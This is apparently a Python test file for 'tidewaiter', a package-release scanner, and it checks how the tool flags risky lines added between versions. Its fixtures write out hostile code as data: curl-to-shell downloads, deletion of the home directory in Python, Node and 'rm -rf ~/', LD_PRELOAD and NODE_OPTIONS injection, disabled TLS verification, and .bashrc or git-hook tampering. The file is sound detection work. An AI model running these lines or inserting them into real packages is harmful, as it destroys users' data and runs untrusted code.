#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""What `tidewaiter diff` and `capabilities` make of single lines that a release gains: what acts, what only looks like it, and when."""
import argparse
import json
import os
import sys
import tempfile
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))
import test_diff  # noqa: E402
from test_diff import Program, check, tarball, wheel  # noqa: E402

PYTHON = "def add(a, b):\n    return a + b\n"


def uses_of(tw, tmp, code, name="reef/__init__.py"):
    if name.endswith(".py"):
        path = wheel(tmp / "reef-1.0-py3-none-any.whl", "1.0", {"reef/__init__.py": "", name: code})
    else:
        path = tarball(tmp / "reef-1.0.tgz", "package", {"package.json": json.dumps({"name": "reef", "version": "1.0.0", "main": name}), name: code})
    return {(u["id"], u["trigger"]) for u in json.loads(tw("capabilities", "--format", "json", path)[1])["capabilities"]}


# code, capability and trigger, is it there
ACTS = [
    ('import subprocess\nsubprocess.call(["curl", "-o", "/tmp/data.json", "https://d.example/data.json"])\n', "exec.downloaded import", False),
    ('import os\nos.system("curl -o /tmp/data.json https://d.example/data.json")\n', "exec.downloaded import", False),
    ('import os\nos.system("curl -o /tmp/data.json https://d.example/d; sh /tmp/data.json")\n', "exec.downloaded import", True),
    ('import os\nos.system("curl https://d.example/d | sh")\n', "exec.downloaded import", True),
    ('import subprocess\nsubprocess.call(["curl", "-o", "/tmp/d", "https://d.example/d"])\nsubprocess.call(["sh", "/tmp/d"])\n', "exec.downloaded import", True),
    ('import os, shutil\nshutil.rmtree(os.path.expanduser("~"))\n', "impact.wipe import", True),
    ('import os, shutil\nshutil.rmtree(os.path.expanduser("~/.cache/reef"))\n', "impact.wipe import", False),
    ('import os, shutil\nshutil.rmtree(os.environ["HOME"])\n', "impact.wipe import", True),
]
# What the language calls by itself: the line runs when the module is imported.
CALLED = [
    "class M(type):\n    def __new__(m, n, b, d):\n        {}\n        return type.__new__(m, n, b, d)\nclass X(metaclass=M):\n    pass\nX()\n",
    "class M(type):\n    def __init__(c, n, b, d):\n        {}\nclass X(metaclass=M):\n    pass\nX()\n",
    "class M(type):\n    def __call__(c):\n        {}\nclass X(metaclass=M):\n    pass\nX()\n",
    "class B:\n    def __init_subclass__(cls):\n        {}\nclass C(B):\n    pass\n",
    "class D:\n    def __set_name__(self, o, n):\n        {}\nclass E:\n    x = D()\n",
    "class D:\n    def __iter__(self):\n        {}\n        yield 1\nfor i in D():\n    pass\n",
    "class D:\n    def __getattr__(self, n):\n        {}\nD().x\n",
    "class D:\n    def __str__(self):\n        {}\n        return ''\ns = f'{{D()}}'\n",
    "class D:\n    def __add__(self, o):\n        {}\nD() + 1\n",
]
WAITS = [
    "class M(type):\n    def __call__(c):\n        {}\nclass X(metaclass=M):\n    pass\n",
    "class B:\n    def __init_subclass__(cls):\n        {}\n",
    "class D:\n    def __iter__(self):\n        {}\n        yield 1\n",
    "class D:\n    def other(self):\n        {}\nD()\n",
]
ACTS += [("import os\n" + c.format("os.system('id -u')"), "exec.shell import", True) for c in CALLED]
ACTS += [("import os\n" + c.format("os.system('id -u')"), "exec.shell import", False) for c in WAITS]
IMPORTS = "import builtins, json, os, requests, ssl, sys\n"
F = IMPORTS + "def f(*a):\n    pass\n"
ACTS += [(F + f"{name} = f\n", "code.hook-runtime import", True) for name in ("sys.excepthook", "builtins.open", "requests.Session.send", "json.loads")]
ACTS += [
    (F + "f.x = f\nclass A:\n    pass\nA.f = f\nsys.stdout.write = f\n", "code.hook-runtime import", False),
    (F + "from . import inner\ninner.f = f\n", "code.hook-runtime import", False),
    (IMPORTS + 'sys.modules["yaml"] = json\n', "code.hook-runtime import", True),
    (IMPORTS + 'sys.modules["reef.json"] = json\n', "code.hook-runtime import", False),
    (IMPORTS + 'os.environ["LD_PRELOAD"] = "/tmp/x.so"\n', "code.hook-runtime import", True),
    (IMPORTS + 'os.putenv("LD_PRELOAD", "/tmp/x.so")\n', "code.hook-runtime import", True),
    (IMPORTS + 'os.environ["REEF"] = "1"\nos.putenv("REEF", "1")\n', "code.hook-runtime import", False),
    (IMPORTS + 'os.environ["HTTPS_PROXY"] = "http://p.example:1"\n', "net.tunnel import", True),
    (IMPORTS + "ssl._create_default_https_context = ssl._create_unverified_context\n", "net.no-verify import", True),
    ('import pydoc\npydoc.pipepager("x", "sh")\n', "exec.shell import", True),
]
JS_ACTS = [
    ('process.env.NODE_TLS_REJECT_UNAUTHORIZED = "0";\n', "net.no-verify import", True),
    ('process.env["NODE_OPTIONS"] = "--require /tmp/x.js";\n', "code.hook-runtime import", True),
    ('process.env.REEF = "0";\n', "code.hook-runtime import", False),
    ('require("fs").rmSync(require("os").homedir(), { recursive: true, force: true });\n', "impact.wipe import", True),
    ('const fs = require("fs"), os = require("os"), path = require("path");\nfs.rmSync(path.join(os.homedir(), ".cache"), { recursive: true });\n', "impact.wipe import", False),
]


def acts(tw, tmp):
    for name, rows in (("reef/__init__.py", ACTS), ("index.js", JS_ACTS)):
        for code, what, there in rows:
            found = uses_of(tw, tmp, code, name)
            check((tuple(what.split()) in found) == there, f"{what}: {there}", code, sorted(found))


def sentence(tw, tmp):
    w = wheel(tmp / "reef-1.0-py3-none-any.whl", "1.0", {"reef/__init__.py": 'import os\nos.system("rm -rf ~/ || true")\n'})
    out = tw("scan", "--no-cache", w)[1]
    check("(rm -rf ~/ || true)." in out and "MALICIOUS" in out, "the sentence of a wiper", out)


SETUP = 'from setuptools import setup\nsetup(name="reef")\n'


def sdist(tmp, version, setup, own="x = 1\n"):
    files = {"PKG-INFO": f"Metadata-Version: 2.1\nName: reef\nVersion: {version}\n", "setup.py": setup, "reef/__init__.py": "", "reef/_version.py": own}
    return tarball(tmp / f"reef-{version}.tar.gz", f"reef-{version}", files)


# lines put into setup.py, level
COMMONPLACE = [
    ('ns = {}\nwith open("reef/_version.py") as f:\n    exec(f.read(), ns)\n', "low"),
    ('with open("reef/data.txt") as f:\n    exec(f.read())\n', "high"),
    ('import subprocess\nsubprocess.check_output(["git", "describe", "--tags"])\n', "low"),
    ('import os\nos.popen("pkg-config --cflags reef").read()\n', "low"),
    ('import os, sys\nif sys.argv[-1] == "publish":\n    os.system("python setup.py sdist upload")\n', "low"),
    ('import os\nos.system("git describe; ./x")\n', "high"),
    ('import os\nos.system("git config --global core.hooksPath x")\n', "high"),
    ('import os\nos.system("echo x > ~/.bashrc")\n', "high"),
]


def commonplace(tw, tmp):
    old = sdist(tmp, "1.0", SETUP)
    for lines, level in COMMONPLACE:
        d = tw.diff(old, sdist(tmp, "1.1", lines + SETUP))[0]
        check(d["level"] == level, f"level {level}", lines, d["level"], d["items"][:3])
    new = sdist(tmp, "1.1", COMMONPLACE[0][0] + SETUP, 'import os\nos.system("id -u")\n')
    d = tw.diff(old, new)[0]
    check(d["level"] == "high" and any(i["trigger"] == "install" and i["member"].endswith("_version.py") for i in d["items"]), "the file of its own is told of itself", d["items"])


def scripts(tw, tmp):
    def pack(version, script):
        scripts = {"scripts": {"postinstall": script}} if script else {}
        return tarball(tmp / f"reef-{version}.tgz", "package", {"package.json": json.dumps({"name": "reef", "version": version, "main": "index.js", **scripts}), "index.js": "exports.x = 1;\n"})

    old = pack("1.0.0", "")
    for script, level in (("echo thanks", "low"), ("reef-setup", "medium"), ("echo thanks && reef-setup", "medium")):
        d = tw.diff(old, pack("1.0.1", script))[0]
        check(d["level"] == level and d["items"][0]["snippet"] == script, f"{script}: {level}", d["items"])


CLIENT = 'import urllib.request\n\n\ndef fetch(name):\n    return urllib.request.urlopen("https://api.reef.example/v1/" + name)\n'


def again(tw, tmp):
    """What is done as often and with the same hosts is no news, wherever it stands."""
    old = wheel(tmp / "reef-1.0-py3-none-any.whl", "1.0", {"reef/__init__.py": PYTHON, "reef/client.py": CLIENT})

    def diff(files):
        return tw.diff(old, wheel(tmp / "reef-1.1-py3-none-any.whl", "1.1", {"reef/__init__.py": PYTHON, **files}))[0]

    moved = CLIENT.replace("fetch", "fetch_it").replace("+ name", "+ name, timeout=3")
    d = diff({"reef/net/client.py": moved})
    check(not [i for i in d["items"] if i["what"] == "use"], "moved, renamed, with a timeout", d["items"])
    d = diff({"reef/client.py": CLIENT + moved})
    check([i for i in d["items"] if i["what"] == "use" and i["id"] == "net.http"], "one more place", d["items"])
    d = diff({"reef/client.py": CLIENT.replace("api.reef", "api.shoal")})
    check(d["level"] == "medium" and d["items"][0]["what"] == "host", "a host renamed in code that is called only", d["items"])
    d = diff({"reef/client.py": CLIENT + 'def tell(x):\n    urllib.request.urlopen("https://t.tide.example/" + x)\n'})
    check(d["level"] == "high" and d["items"][0]["what"] == "host", "a host that is new beside the old one", d["items"])


def needs(tw, tmp):
    def build(version, more):
        project = f'[build-system]\nrequires = ["setuptools>=61"{more}]\nbuild-backend = "setuptools.build_meta"\n[project]\nname = "reef"\nversion = "{version}"\n'
        return tarball(tmp / f"reef-{version}.tar.gz", f"reef-{version}", {"PKG-INFO": f"Metadata-Version: 2.1\nName: reef\nVersion: {version}\n", "pyproject.toml": project, "reef/__init__.py": ""})

    def pack(version, chalk):
        manifest = {"name": "reef", "version": version, "dependencies": {"chalk": chalk}}
        return tarball(tmp / f"reef-{version}.tgz", "package", {"package.json": json.dumps(manifest), "index.js": "exports.x = 1;\n"})

    d = tw.diff(build("1.0", ""), build("1.1", ', "reef-build"'))[0]
    check([(i["what"], i["id"]) for i in d["items"]] == [("dependency", "reef-build")] and d["items"][0]["risk"] >= 20, "what a build needs", d["items"])
    d = tw.diff(pack("1.0.0", "^4"), pack("1.0.1", "npm:chalk-x@1.0.0"))[0]
    check(d["level"] == "medium" and (d["items"][0]["what"], d["items"][0]["id"]) == ("dependency", "chalk"), "another package under a known name", d["items"])
    d = tw.diff(pack("1.0.0", "^4"), pack("1.0.1", "npm:chalk@4.1.0"))[0]
    check(d["level"] == "none", "the same under its own name", d["items"])


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--tidewaiter", required=True)
    path = os.path.abspath(ap.parse_args().tidewaiter)
    with tempfile.TemporaryDirectory() as folder:
        tw, tmp = Program(path, Path(folder)), Path(folder)
        for test in (acts, sentence, commonplace, scripts, again, needs):
            test(tw, tmp)
    print(f"{test_diff.passed} passed, {test_diff.failed} failed")
    return test_diff.failed != 0


if __name__ == "__main__":
    sys.exit(main())
